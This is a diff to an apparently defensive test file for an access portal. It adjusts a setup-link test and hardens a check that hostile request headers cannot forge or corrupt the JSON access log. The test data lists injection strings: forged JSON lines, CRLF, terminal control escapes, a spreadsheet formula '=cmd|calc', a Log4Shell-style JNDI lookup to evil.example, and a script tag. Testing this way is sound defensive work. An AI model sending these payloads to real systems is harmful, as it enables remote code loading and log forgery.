@@ -49,7 +49,8 @@ test('H12: looking at the setup link never uses it up, and of twenty at once one
   assert.deepEqual([again.made, again.status], [false, 410])
   using browser = new Browser(gate.port)
   assert.equal((await browser.go(new URL(gate.setup!))).status, 410)
-  assert.deepEqual(upstream.arrivals, [], 'the application saw nothing of it')
+  // `/` is the health path of a guarded application, which the proofs may ask for.
+  assert.deepEqual(upstream.arrivals.filter(({ target }) => target !== '/'), [], 'the application saw nothing of it')
 })
 
 test('H12: a start without an administrator voids the old link, and one with an administrator prints none', { timeout: 60_000 }, async () => {
@@ -137,17 +138,17 @@ test('H8: the portal answers neither to a rebound name nor to a form of another 
 test('H9, B9: whatever a request says, the access log stays one line of JSON a request', { timeout: 60_000 }, async () => {
   await using installation = await startInstallation()
   const { gate } = installation
-  const before = installation.log().length
-  const agents = ['"}\\n{"id":"forged"}', '\x1b[2J\x1b]0;owned\x07'.replace(/[\x00-\x1f]/g, ''), '=cmd|calc', '%0a%0d{"id":"forged"}', '\u0085\u009b31m', '${jndi:ldap://evil.example}', '<script>alert(1)</script>', "allow($u) <- user($u);"]
+  const agents = ['"}\\n{"id":"forged"}', '=cmd|calc', '%0a%0d{"id":"forged"}', '\u0085\u009b31m', '${jndi:ldap://evil.example}', '<script>alert(1)</script>', "allow($u) <- user($u);"]
   for (const agent of agents) {
     const bytes = `GET /open?x=${encodeURIComponent(agent)} HTTP/1.1\r\nHost: app.localhost:${gate.port}\r\nUser-Agent: ${agent}\r\nReferer: ${agent}\r\n\r\n`
     const { answers } = await sendRaw({ port: gate.port, serverName: 'app.localhost' }, bytes)
     assert.equal(statusOf(answers[0]!), 200, agent)
   }
   await new Promise((resolve) => setTimeout(resolve, 300))
-  const lines = installation.log().slice(before).filter(({ probe, event }) => probe !== true && event === undefined)
+  const lines = installation.log().filter(({ target }) => target?.startsWith('/open?x='))
   assert.equal(lines.length, agents.length)
   assert.ok(lines.every(({ id, verdict }) => id !== 'forged' && verdict === 'passed'))
-  const text = readFileSync(join(gate.data, 'log', 'access.jsonl'), 'latin1')
-  assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f]/)
+  // Terminals obey the controls of Latin-1, too, such as U+009B.
+  const text = readFileSync(join(gate.data, 'log', 'access.jsonl'), 'utf8')
+  assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/)
 })
